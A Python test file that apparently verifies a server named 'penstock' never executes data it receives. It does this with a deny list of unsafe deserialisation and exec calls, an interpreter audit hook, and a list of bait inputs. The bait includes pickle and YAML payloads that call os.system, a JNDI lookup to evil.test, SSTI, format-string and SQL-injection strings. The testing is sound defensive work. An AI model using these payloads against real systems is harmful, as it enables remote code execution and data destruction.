"""S14: bytes from a disk or a socket are never run."""

from __future__ import annotations

import ast
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

import penstock
from tests.server.support import Api, api_of
from tests.support.serving import Server

SOURCE = Path(penstock.__file__).parent
# A module or a call that runs what it reads, by its full name.
UNSAFE = {
    "pickle",
    "cPickle",
    "_pickle",
    "marshal",
    "shelve",
    "dill",
    "cloudpickle",
    "joblib",
    "diskcache",
    "jsonpickle",
    "eval",
    "exec",
    "compile",
    "__import__",
    "builtins.eval",
    "builtins.exec",
    "code.interact",
    "builtins.compile",
    "builtins.__import__",
    "yaml.load",
    "yaml.load_all",
    "yaml.full_load",
    "yaml.unsafe_load",
    "tempfile.mktemp",
    "numpy.load",
    "pandas.read_pickle",
    "os.system",
    "os.popen",
    "subprocess.getoutput",
    "runpy.run_path",
    "copyreg",
    "ctypes.string_at",
    "multiprocessing.connection",
}
# A command that runs a program of its caller's, named on the command line as `python FILE` has it.
ALLOWED = {"cli/features_source.py": ["runpy.run_path"]}
AUDIT = """
import os, sys

_out = os.open(os.environ["AUDIT_FILE"], os.O_WRONLY | os.O_APPEND | os.O_CREAT)
_RUNNING = {"pickle.find_class", "marshal.loads", "marshal.load", "exec", "compile",
            "code.__new__", "os.system", "os.exec", "os.posix_spawn", "os.fork",
            "subprocess.Popen", "ctypes.dlopen"}


def _hook(event, args):
    if event not in _RUNNING or not os.path.exists(os.environ["PENSTOCK_PORT_FILE"]):
        return  # before the server listens only its own words are read
    frame = sys._getframe(1)
    while frame is not None:
        if "importlib" in frame.f_code.co_filename:
            return  # a module being loaded
        frame = frame.f_back
    os.write(_out, f"{event} {args!r}"[:200].encode() + b"\\n")


sys.addaudithook(_hook)
os.write(_out, b"begun\\n")
"""


def names_of(tree: ast.AST) -> Iterator[tuple[int, str]]:
    """Every name, dotted name and imported name, in full."""
    aliases: dict[str, str] = {}
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            for alias in node.names:
                aliases[alias.asname or alias.name.split(".")[0]] = alias.name
                yield node.lineno, alias.name
        elif isinstance(node, ast.ImportFrom) and node.module:
            for alias in node.names:
                aliases[alias.asname or alias.name] = f"{node.module}.{alias.name}"
                yield node.lineno, f"{node.module}.{alias.name}"
                yield node.lineno, node.module
    for node in ast.walk(tree):
        if isinstance(node, ast.Name):
            yield node.lineno, aliases.get(node.id, node.id)
        elif isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name):
            owner = aliases.get(node.value.id, node.value.id)
            yield node.lineno, f"{owner}.{node.attr}"


def unsafe(path: Path) -> list[str]:
    found = []
    for line, name in names_of(ast.parse(path.read_text(encoding="utf-8"))):
        short = name.split(".")[0]
        if name in UNSAFE or (short in UNSAFE and "." in name and short != "compile"):
            found.append(f"{path.name}:{line}: {name}")
    return found


@pytest.mark.parametrize("path", sorted(SOURCE.rglob("*.py")), ids=lambda p: str(p.name))
def test_no_source_names_what_runs_bytes(path: Path) -> None:
    """S14: neither directly nor under another name."""
    allowed = ALLOWED.get(path.relative_to(SOURCE).as_posix(), [])
    assert [found.rpartition(" ")[2] for found in unsafe(path)] == allowed


@pytest.mark.parametrize(
    "text",
    [
        "import pickle",
        "from pickle import loads",
        "import marshal as m\nm.loads(b'')",
        "import yaml as y\ny.load(x)",
        "from yaml import load as read\nread(x)",
        "eval('1')",
        "run = exec\nrun('1')",
        "import builtins\nbuiltins.eval('1')",
    ],
)
def test_the_check_above_sees_through_other_names(tmp_path: Path, text: str) -> None:
    """S14: it can fail."""
    file = tmp_path / "bad.py"
    file.write_text(text)

    assert unsafe(file)


@pytest.fixture(scope="module")
def heard(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """A server whose interpreter reports whatever it runs that is no module of its own."""
    home = tmp_path_factory.mktemp("heard")
    (home / "hook").mkdir()
    (home / "hook" / "sitecustomize.py").write_text(AUDIT)
    source = f"{home / 'hook'}{os.pathsep}{SOURCE.parent}"
    server = Server(home, {"PYTHONPATH": source, "AUDIT_FILE": str(home / "audit")})
    server.start()
    yield server
    server.close()


BAIT = [
    "cos\nsystem\n(S'true'\ntR.",
    "__import__('os').system('true')",
    "().__class__.__base__.__subclasses__()",
    "!!python/object/apply:os.system ['true']",
    "${jndi:ldap://evil.test/x}",
    "{{7*7}}",
    "%s%s%n",
    "'; DROP TABLE topics; --",
]


def test_a_server_at_work_runs_nothing_it_was_sent(heard: Server) -> None:
    """S14: writes, reads, streams, a crash, a replay and a snapshot, with bait in every field."""
    api = api_of(heard)
    for number, text in enumerate(BAIT):
        use(api, f"bait-{number}", text)
    heard.kill()
    heard.start()
    for number, text in enumerate(BAIT):
        records = api_of(heard).diff(f"bait-{number}", include_tags=True)["records"]
        assert [one["data"] for one in records][-1] == {text: text}
    assert heard.stop() == 0

    ran = (heard.home / "audit").read_text().splitlines()
    assert ran.count("begun") == 2
    assert [line for line in ran if line != "begun"] == []


def use(api: Api, topic: str, text: str) -> None:
    record = {"data": {text: text}, "tag": text[:100], "node": text[:100], "meta": {text: text}}
    api.create(topic, durability="fsync")
    api.write(topic, records=[record], idempotency_key=text[:200])
    api.diff(topic, tag=text[:100])
    api.diff(topic, node=text[:100])
    api.post(f"/v0/topics/{topic}", text.encode(), {"Content-Type": "application/json"})
    api.get("/v0/topics?cursor=gASVHwAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAR0cnVllIWUUpQu")
    with api.follow([topic]) as stream:
        stream.records(1)
    with api.socket() as socket:
        socket.ask("subscribe", topic=topic)
        socket.ask("publish", topic=topic, records=[record], node=text[:100])


@pytest.mark.parametrize("act", ["exec('1')", "import pickle; pickle.loads(b'cos\\nsystem\\n.')"])
def test_the_report_tells_of_what_is_run(tmp_path: Path, act: str) -> None:
    """S14: the test above can fail."""
    (tmp_path / "sitecustomize.py").write_text(AUDIT)
    port = str(tmp_path / "port")
    env = {
        "PYTHONPATH": str(tmp_path),
        "AUDIT_FILE": str(tmp_path / "audit"),
        "PENSTOCK_PORT_FILE": port,
    }

    subprocess.run(
        [sys.executable, "-c", f"open({port!r}, 'w').close(); {act}"], env=env, check=True
    )

    ran = (tmp_path / "audit").read_text()
    assert "exec " in ran or "pickle.find_class" in ran
